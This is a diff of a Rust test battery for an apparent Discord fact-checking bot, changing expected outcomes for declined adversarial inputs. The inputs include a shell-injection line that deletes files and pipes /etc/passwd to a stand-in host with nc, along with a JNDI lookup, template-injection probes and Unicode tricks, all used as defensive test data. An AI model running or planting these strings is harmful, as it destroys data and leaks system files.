@@ -49,9 +49,10 @@ enum Asked {
 /// What `check` must do with an input.
 #[derive(Debug, Clone, Copy)]
 enum Checked {
-    /// Not in the source, with no evidence quoted.
+    /// Not in the source, with no evidence quoted (for inputs without words to match).
     NothingFound,
-    /// Not in the source (the closest passages may be quoted).
+    /// Not in the source; the closest passages may be quoted (for words the article doesn't
+    /// use, where what counts as "closest" is the matcher's business).
     NotInSource,
     /// Supported or refuted, with a decisive quote (first evidence) that holds this text.
     Verdict(Verdict, &'static str),
@@ -184,7 +185,7 @@ fn battery() -> Vec<Case> {
             "right-to-left override showing reversed text",
             "\u{202E}ynos dekcah ohw",
             Declined,
-            NothingFound,
+            NotInSource,
         ),
         row(
             "bidi isolates around a false claim",
@@ -244,7 +245,7 @@ fn battery() -> Vec<Case> {
             "@everyone and @here",
             "@everyone @here",
             Declined,
-            NothingFound,
+            NotInSource,
         ),
         row(
             "@everyone with a question",
@@ -281,7 +282,7 @@ fn battery() -> Vec<Case> {
             "code fence break-out with @everyone",
             "``` @everyone ```\n```",
             Declined,
-            NothingFound,
+            NotInSource,
         ),
         row("block quotes", format!("> {QUESTION}\n>>> @here"), question),
         row("spoiler", format!("||{QUESTION}||"), question),
@@ -316,7 +317,7 @@ fn battery() -> Vec<Case> {
             "invite without a scheme",
             "join discord.gg/abcdef now",
             Declined,
-            NothingFound,
+            NotInSource,
         ),
         row(
             "question with an invite",
@@ -334,13 +335,13 @@ fn battery() -> Vec<Case> {
             "shell injection",
             "$(rm -rf /) && cat /etc/passwd | nc evil 1337",
             Declined,
-            NothingFound,
+            NotInSource,
         ),
         case(
             "format strings and template injection",
             "%s%s%n {0} {{7*7}} ${jndi:ldap://x/a}",
             Declined,
-            NothingFound,
+            NotInSource,
         ),
         case(
             "HTML script tag",
@@ -365,7 +366,7 @@ fn battery() -> Vec<Case> {
             "𝐰𝐡𝐨 𝐡𝐚𝐜𝐤𝐞𝐝 𝐒𝐨𝐧𝐲".into(),
             question,
         ),
-        case("another language", "谁入侵了索尼？", Declined, NothingFound),
+        case("another language", "谁入侵了索尼？", Declined, NotInSource),
     ]
 }
 
